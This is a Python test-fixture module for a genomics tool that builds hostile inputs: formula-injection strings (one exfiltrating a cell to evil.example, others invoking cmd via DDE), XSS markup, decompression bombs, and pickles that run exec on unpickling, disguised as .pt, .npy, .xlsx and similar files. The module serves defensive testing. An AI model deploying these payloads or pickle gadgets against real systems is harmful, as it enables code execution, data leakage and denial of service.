"""Hostile files and names for the tests: bombs, pickles that leave a trace, formulas, markup, identifiers."""

from __future__ import annotations

import gzip
import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

COLLECTION = Path(os.environ.get("GENOMAP_BADINPUTS", Path(__file__).resolve().parents[3] / "shared" / "badinputs"))

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=1+1",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|calc",
    "%0A=1+1",
    " =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
)

MARKUP = (
    "![x](https://evil.example/a.png)",
    "[click](https://evil.example)",
    "<img src=https://evil.example/b.png onerror=\"document.title='owned'\">",
    "<script>document.title='owned'</script>",
    "$\\href{https://evil.example}{x}$",
    ":material/home:",
    "https://evil.example/autolink",
    "**bold** _it_ `code` ~~x~~ # h",
    "<svg/onload=document.title='owned'>",
    "javascript:document.title='owned'",
)
"""Names of genes, patients, classes and files that would act if they were taken for markup."""

SECRETS = (
    "Doe, Jane",
    "Jane Doe",
    "MRN0000042",
    "1961-03-17",
    "jane.doe@clinic.example",
    "555-12-3456",
    "12 Elm Street",
)


def evil_table(rows: int = 40) -> bytes:
    """Markup wherever a table has a name."""
    genes = [*MARKUP, *(f"g{j}" for j in range(20))]
    quoted = ['"' + gene.replace('"', '""') + '"' for gene in genes]
    lines = ["sample_id," + ",".join(quoted) + ",diagnosis"]
    for i in range(rows):
        name = f"P{i} " + MARKUP[i % len(MARKUP)].replace('"', "'")
        label = ("<b>tumour</b>", "![n](https://evil.example/n.png)")[i % 2]
        values = ",".join(f"{(i * 7 + j * 3) % 11 + 0.37 * i:.3f}" for j in range(len(genes)))
        lines.append(f'"{name}",{values},"{label}"')
    return ("\n".join(lines) + "\n").encode()


def phi_table(rows: int = 40) -> bytes:
    """A cohort with columns that name persons."""
    header = "patient_name,mrn,date_of_birth,email,ssn,street_address,sample_id,g0,g1,g2,g3,g4,diagnosis"
    lines = [header]
    for i in range(rows):
        if i == 3:
            person = '"Doe, Jane",MRN0000042,1961-03-17,jane.doe@clinic.example,555-12-3456,12 Elm Street'
        else:
            person = (
                f'"Roe, R{i}",MRN{i:07d},19{50 + i % 40}-01-{i % 27 + 1:02d},r{i}@clinic.example,555-13-{i:04d},{i} Oak'
            )
        values = ",".join(f"{(i * 7 + j * 3) % 11 + 0.37 * i:.3f}" for j in range(5))
        lines.append(f"{person},S{i:03d},{values},{'tumour' if i % 2 else 'normal'}")
    return ("\n".join(lines) + "\n").encode()


def bombs() -> dict[str, bytes]:
    """File name -> a small file that claims, or unpacks to, far more than it should."""
    zeros = bytes(1 << 20)
    return {
        "flat.csv.gz": _gzip_of(b"a,b\n" + b"1,2\n" * 1000, zeros, 300),
        "volume.nii.gz": gzip.compress(_nifti_header((600, 600, 600)) + zeros * 64),
        "wide.zip": _zip_of({"table.csv": b"sample_id,a\n1,2\n", "a.png": zeros * 256}),
        "many.zip": _zip_of({f"{i}.png": b"" for i in range(6000)}),
        "sheet.xlsx": _zip_of({"xl/workbook.xml": b"<x/>", "xl/worksheets/sheet1.xml": b" " * (300 << 20)}),
        "pixels.png": _png(60_000, 60_000),
        "text.png": _png(32, 32, (b"zTXt", b"Comment\0\0" + zlib.compress(zeros * 80))),
        "rows.parquet": _parquet_bomb(),
        "declared.h5ad": _hdf5_bomb(),
        "array.npy": b"\x93NUMPY\x01\x00v\x00" + _NPY_HEADER.ljust(118),
        "array.npz": _zip_of({"x.npy": zeros * 256}),
    }


_NPY_HEADER = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }"


def _gzip_of(head: bytes, block: bytes, times: int) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9) as file:
        file.write(head)
        for _ in range(times):
            file.write(block)
    return out.getvalue()


def _zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def _png(width: int, height: int, *more: tuple[bytes, bytes]) -> bytes:
    chunks = [(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)), *more]
    chunks += [(b"IDAT", zlib.compress(bytes(33 * 32))), (b"IEND", b"")]
    packed = (struct.pack(">I", len(b)) + n + b + struct.pack(">I", zlib.crc32(n + b)) for n, b in chunks)
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


def _nifti_header(shape: tuple[int, int, int]) -> bytes:
    header = bytearray(352)
    struct.pack_into("<i", header, 0, 348)
    struct.pack_into("<8h", header, 40, 3, *shape, 1, 1, 1, 1)
    struct.pack_into("<2h", header, 70, 16, 32)
    struct.pack_into("<f", header, 108, 352.0)
    header[344:348] = b"n+1\0"
    return bytes(header)


def _parquet_bomb() -> bytes:
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    out = io.BytesIO()
    column = pa.array(np.zeros(2_000_000, np.int8))
    with pq.ParquetWriter(out, pa.schema([("a", pa.int8())]), compression="zstd") as writer:
        for _ in range(20):
            writer.write_table(pa.table({"a": column}))
    return out.getvalue()


def _hdf5_bomb() -> bytes:
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_dataset("X", (10**7, 10**5), "f4", chunks=(1000, 1000))
        file.create_dataset("obs/_index", data=[b"a"])
        file.create_dataset("var/_index", data=[b"a"])
    return out.getvalue()


CANARY = "GENOMAP_CANARY"


def pickles() -> dict[str, bytes]:
    """File name -> a file that makes ``GENOMAP_CANARY`` in the working folder when it is unpickled."""
    code = f"__import__('os').mkdir({CANARY!r})"
    program = b"cbuiltins\nexec\n(V" + code.encode() + b"\ntR."
    npy = (
        b"\x93NUMPY\x01\x00v\x00"
        + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117)
        + b"\n"
        + program
    )
    plain = {"e.pkl": program, "e.joblib": zlib.compress(program), "e.npy": npy, "e.csv": b"\x80\x04" + program}
    zipped = {
        "e.pt": _zip_of({"archive/data.pkl": program, "archive/version": b"3"}),
        "e.npz": _zip_of({"x.npy": npy}),
        "e.safetensors": _zip_of({"archive/data.pkl": program}),
        "e.h5ad": program,
        "e.parquet": program,
        "e.xlsx": _zip_of({"xl/workbook.xml": program}),
    }
    return plain | zipped
